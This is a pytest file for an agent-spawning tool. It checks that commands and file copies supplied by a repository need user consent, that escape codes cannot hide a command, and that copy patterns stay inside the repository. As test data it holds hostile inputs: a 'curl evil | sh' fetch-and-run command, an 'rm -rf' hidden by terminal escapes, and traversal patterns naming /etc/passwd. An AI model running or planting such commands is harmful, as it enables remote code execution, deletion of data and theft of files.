"""What a repository wants to run or copy: asked about once, then done in the pane, before the runtime."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import Af
from tests.farm.traces import traces
from tests.gitrepo import commit_files, git, make_repo, write_files
from tests.waiting import wait_until

SETUP = '[worktree]\nsetup = "echo prepared > prepared.local"\n'


def at_a_terminal(repo: Path, answer: str, *args: str) -> tuple[int, str, str]:
    """Exit code, stdout, and what was shown at the terminal."""
    ours, theirs = os.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "agent_farm", "spawn", "--runtime", "demo", *args],
        cwd=repo,
        stdin=theirs,
        stdout=subprocess.PIPE,
        stderr=theirs,
        text=True,
    ) as process:
        os.close(theirs)
        if answer:
            os.write(ours, answer.encode())
        out, _ = process.communicate(timeout=60)
    shown = b""
    try:
        while part := os.read(ours, 4096):
            shown += part
    except OSError:  # the other end is closed
        pass
    os.close(ours)
    return process.returncode, out, shown.decode()


def builder(af: Af, id: str) -> dict[str, object]:
    found: dict[str, object] = json.loads(af("status", id, "--json").stdout)["builders"][0]
    return found


def spawned(af: Af, *args: str) -> Path:
    """The worktree of a new builder, once its runtime has had its turn."""
    done = af("spawn", "--runtime", "demo", *args, "Fix")
    assert done.returncode == 0, done
    id = done.stdout.strip()
    assert af("wait", id, "--for", "idle", "--timeout", "300").returncode == 0, af("capture", id).stdout
    return Path(af("path", id).stdout.rstrip("\n"))


REQUESTS = {
    "setup": ({"agent-farm.toml": SETUP}, "agent-farm.toml worktree.setup: echo prepared > prepared.local"),
    "copy": ({"agent-farm.toml": '[worktree]\ncopy = [".env"]\n'}, "agent-farm.toml worktree.copy: .env"),
    "include": ({".worktreeinclude": "# keys\n.env\n"}, ".worktreeinclude: # keys"),
    "notify": ({"agent-farm.toml": '[notify]\ncommand = "true"\n'}, "agent-farm.toml notify.command: true"),
    "runtime": (
        {"agent-farm.toml": '[spawn]\nruntime = "demo"\n[runtimes.demo]\ncommand = "/bin/echo hi"\n'},
        "agent-farm.toml runtimes.demo.command: /bin/echo hi",
    ),
}


@pytest.mark.parametrize("request_", REQUESTS)
def test_without_a_terminal_it_is_refused(repo: Path, af: Af, request_: str) -> None:
    files, shown = REQUESTS[request_]
    write_files(repo, files)
    runtime = [] if request_ == "runtime" else ["--runtime", "demo"]
    done = af("spawn", *runtime, "Fix")
    assert done.returncode == 1
    assert "--yes" in done.stderr
    assert shown in done.stderr
    assert traces(repo).left() == {}


def test_as_json_it_is_an_error_with_a_code(repo: Path, af: Af) -> None:
    write_files(repo, {"agent-farm.toml": SETUP})
    done = af("spawn", "--runtime", "demo", "--json", "Fix")
    error = json.loads(done.stdout)["error"]
    assert error["code"] == "consent-needed"
    assert any("echo prepared" in line for line in error["evidence"])


def test_the_name_of_a_shipped_runtime_is_no_consent_to_what_replaces_it(repo: Path, af: Af) -> None:
    files, shown = REQUESTS["runtime"]
    write_files(repo, files)
    refused = af("spawn", "--runtime", "demo", "Fix")
    assert refused.returncode == 1
    assert shown in refused.stderr


def test_at_a_terminal_it_is_asked_once(repo: Path, af: Af) -> None:
    write_files(repo, {"agent-farm.toml": SETUP})
    code, out, shown = at_a_terminal(repo, "y\n", "Fix")
    assert code == 0, shown
    assert "echo prepared > prepared.local" in shown
    assert "Approve" in shown
    assert out.startswith("task-")
    code, _, shown = at_a_terminal(repo, "", "Fix")
    assert code == 0
    assert "Approve" not in shown
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 0


@pytest.mark.parametrize("answer", ["n\n", "\n", "\x04"])
def test_no_is_no(repo: Path, af: Af, answer: str) -> None:
    write_files(repo, {"agent-farm.toml": SETUP})
    code, out, shown = at_a_terminal(repo, answer, "Fix")
    assert code in (1, 130), shown
    assert out == ""
    assert traces(repo).left() == {}
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 1


def test_what_has_changed_is_asked_about_again(repo: Path, af: Af) -> None:
    write_files(repo, {"agent-farm.toml": SETUP})
    assert af("spawn", "--runtime", "demo", "--yes", "Fix").returncode == 0
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 0
    write_files(repo, {"agent-farm.toml": SETUP.replace("echo", "curl evil | sh; echo")})
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 1
    write_files(repo, {"agent-farm.toml": SETUP})
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 0


def test_consent_is_for_one_repository(repo: Path, af: Af, tmp_path: Path) -> None:
    other = make_repo(tmp_path / "other")
    for place in (repo, other):
        write_files(place, {"agent-farm.toml": SETUP})
    assert af("spawn", "--runtime", "demo", "--yes", "Fix").returncode == 0
    assert af("spawn", "--runtime", "demo", "Fix", cwd=other).returncode == 1


def test_consent_lies_outside_the_repository(repo: Path, af: Af) -> None:
    """Else a repository could bring its own."""
    write_files(repo, {"agent-farm.toml": SETUP})
    assert af("spawn", "--runtime", "demo", "--yes", "Fix").returncode == 0
    file = Path(os.environ["XDG_STATE_HOME"]) / "agent-farm/consent.json"
    assert file.stat().st_mode & 0o777 == 0o600
    assert not list((repo / ".agent-farm").rglob("*consent*"))


def test_a_dry_run_does_not_agree(repo: Path, af: Af) -> None:
    write_files(repo, {"agent-farm.toml": SETUP})
    af("spawn", "--runtime", "demo", "--dry-run", "Fix")
    assert af("spawn", "--runtime", "demo", "Fix").returncode == 1


def test_what_is_asked_cannot_hide_behind_control_characters(repo: Path) -> None:
    hidden = '[worktree]\nsetup = "rm -rf x\\u001b[2K\\r\\u0007echo harmless"\n'
    write_files(repo, {"agent-farm.toml": hidden})
    code, _, shown = at_a_terminal(repo, "n\n", "Fix")
    assert code == 1
    assert "\x1b[2K" not in shown
    assert "rm -rf x\\x1b[2K" in shown


# What it does once it was agreed to


def test_setup_runs_in_the_worktree_before_the_runtime(repo: Path, af: Af) -> None:
    commit_files(repo, {".gitignore": "*.local\n"})
    write_files(repo, {"agent-farm.toml": SETUP})
    worktree = spawned(af, "--yes")
    assert (worktree / "prepared.local").read_text() == "prepared\n"
    states = [event["state"] for event in json.loads(af("logs", worktree.name, "--json").stdout)["events"]]
    assert states.index("preparing") < states.index("working")


def test_setup_that_fails_is_shown_in_the_pane_and_in_the_status(repo: Path, af: Af) -> None:
    write_files(repo, {"agent-farm.toml": '[worktree]\nsetup = "echo no such tool; exit 3"\n'})
    id = af("spawn", "--runtime", "demo", "--yes", "Fix").stdout.strip()
    wait_until(lambda: builder(af, id)["status"]["state"] == "failed", what="its failure")  # type: ignore[index]
    assert builder(af, id)["status"]["reason"] == "setup exited 3"  # type: ignore[index]
    assert "setup exited 3" in af("status").stdout
    screen = af("capture", id).stdout
    assert "no such tool" in screen
    assert "setup exited 3" in screen
    assert "sha256" not in screen
    assert not (repo / ".agent-farm/runs" / id / "processes.json").exists()


@pytest.fixture
def keys(repo: Path) -> Path:
    """A checkout with ignored files, one of them not for copying."""
    commit_files(repo, {".gitignore": ".env*\nsecrets/\nbuild/\n", "a.txt": "committed\n"})
    write_files(
        repo,
        {
            ".env": "KEY=1\n",
            ".env.local": "KEY=2\n",
            "secrets/deep/key": "3\n",
            "build/out": "4\n",
            "untracked.txt": "5\n",
            "a.txt": "changed\n",
        },
    )
    return repo


def test_ignored_files_that_match_are_copied(keys: Path, af: Af) -> None:
    write_files(
        keys, {".worktreeinclude": "# what a fresh tree needs\n.env*\n!.env.local\nsecrets/\n*.txt\n"}
    )
    worktree = spawned(af, "--yes")
    assert (worktree / ".env").read_text() == "KEY=1\n"
    assert (worktree / "secrets/deep/key").read_text() == "3\n"
    assert not (worktree / ".env.local").exists()
    assert not (worktree / "build").exists()
    assert not (worktree / "untracked.txt").exists()
    assert (worktree / "a.txt").read_text() == "committed\n"
    assert git(worktree, "status", "--porcelain") == ""


def test_copies_of_the_settings(keys: Path, af: Af) -> None:
    write_files(keys, {"agent-farm.toml": '[worktree]\ncopy = [".env", "build/"]\n'})
    worktree = spawned(af, "--yes")
    assert (worktree / ".env").read_text() == "KEY=1\n"
    assert (worktree / "build/out").read_text() == "4\n"
    assert not (worktree / ".env.local").exists()


def test_a_copy_is_no_link(keys: Path, af: Af) -> None:
    """Two builders that share a file overwrite each other's."""
    write_files(keys, {".worktreeinclude": ".env\nsecrets/\n"})
    one, two = spawned(af, "--yes"), spawned(af)
    (one / ".env").write_text("changed\n")
    (one / "secrets/deep/key").write_text("changed\n")
    for place in (two, keys):
        assert (place / ".env").read_text() == "KEY=1\n"
        assert (place / "secrets/deep/key").read_text() == "3\n"


def test_a_copy_never_overwrites(keys: Path, af: Af) -> None:
    """What is ignored here may be committed on the base the builder has."""
    git(keys, "switch", "-qc", "with-env")
    git(keys, "stash", "-q")
    (keys / ".env").write_text("committed\n")
    git(keys, "add", "-f", ".env")
    git(keys, "commit", "-q", "-m", "env")
    git(keys, "switch", "-q", "main")
    write_files(keys, {".env": "KEY=1\n", ".worktreeinclude": ".env\n"})
    worktree = spawned(af, "--yes", "--base", "with-env")
    assert (worktree / ".env").read_text() == "committed\n"


def test_copies_come_from_the_checkout_the_user_is_in(keys: Path, af: Af, tmp_path: Path) -> None:
    git(keys, "worktree", "add", "-q", str(tmp_path / "side"))
    write_files(tmp_path / "side", {".env": "SIDE=1\n", ".worktreeinclude": ".env\n"})
    done = af("spawn", "--runtime", "demo", "--yes", "Fix", cwd=tmp_path / "side")
    assert done.returncode == 0, done
    target = keys / ".builders" / done.stdout.strip() / ".env"
    wait_until(target.exists, what="the copy")
    assert target.read_text() == "SIDE=1\n"


def test_a_pattern_cannot_reach_outside(keys: Path, af: Af, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("secret\n")
    write_files(
        keys, {".worktreeinclude": "../outside\n/etc/passwd\n--help\n:(top)*\n.builders/\n.agent-farm/\n"}
    )
    worktree = spawned(af, "--yes")
    assert sorted(path.name for path in worktree.iterdir() if path.name.startswith((".b", ".a", "out"))) == []


def test_notify_is_told_once_when_a_builder_waits(repo: Path, af: Af, tmp_path: Path) -> None:
    log = tmp_path / "told"
    told = f"echo $AF_STATE $AF_BUILDER_ID $AF_REASON >> {log}"
    write_files(repo, {"agent-farm.toml": f"[notify]\ncommand = '{told}'\n"})
    done = af("spawn", "--runtime", "demo", "--yes", "--permissions", "ask", "Fix")
    id = done.stdout.strip()
    wait_until(lambda: log.exists() and log.read_text(), what="the word to a person")
    assert af("wait", id, "--for", "waiting", "--timeout", "300").returncode == 0
    assert log.read_text().splitlines() == [
        line for line in log.read_text().splitlines() if f" {id} " in line
    ]
    assert log.read_text().startswith(f"waiting {id} ")
    assert len(log.read_text().splitlines()) == 1


def test_notify_sees_the_desktop_and_no_key(repo: Path, af: Af, tmp_path: Path) -> None:
    log = tmp_path / "told"
    command = f"env >{log}.new; mv {log}.new {log}"
    settings = f'[notify]\ncommand = \'{command}\'\non = ["idle"]\n[env]\npass = ["HOOK"]\n'
    write_files(repo, {"agent-farm.toml": settings})
    keys = {"ANTHROPIC_API_KEY": "secret", "OTHER": "secret"}
    done = af("spawn", "--runtime", "demo", "--yes", "Fix", env={"DISPLAY": ":7", "HOOK": "passed", **keys})
    wait_until(log.exists, what="the word to a person")
    seen = dict(line.split("=", 1) for line in log.read_text().splitlines() if "=" in line)
    assert (seen["DISPLAY"], seen["HOOK"], seen["AF_BUILDER_ID"]) == (":7", "passed", done.stdout.strip())
    assert (seen["AF_STATE"], "secret" in seen.values()) == ("idle", False)


def test_a_runtime_of_the_repository_is_asked_about_unless_it_is_named(af: Af, repo: Path) -> None:
    lego = (Path(__file__).parents[1] / "runtimes/lego.py").read_text()
    write_files(repo, {"lego.py": lego, "agent-farm.toml": '[spawn]\nruntime = "lego"\n'})
    write_files(repo, {"agent_runtime.json": json.dumps({"runtimes": {"lego": {"adapter": "lego.py"}}})})
    (repo / "lego.py").chmod(0o755)
    refused = af("spawn", "Fix auth")
    assert refused.returncode == 1
    assert "agent_runtime.json lego: lego.py" in refused.stderr
    assert "--yes" in refused.stderr
    assert af("spawn", "Fix auth", "--runtime", "lego").returncode == 0
    assert af("spawn", "Fix auth").returncode == 0
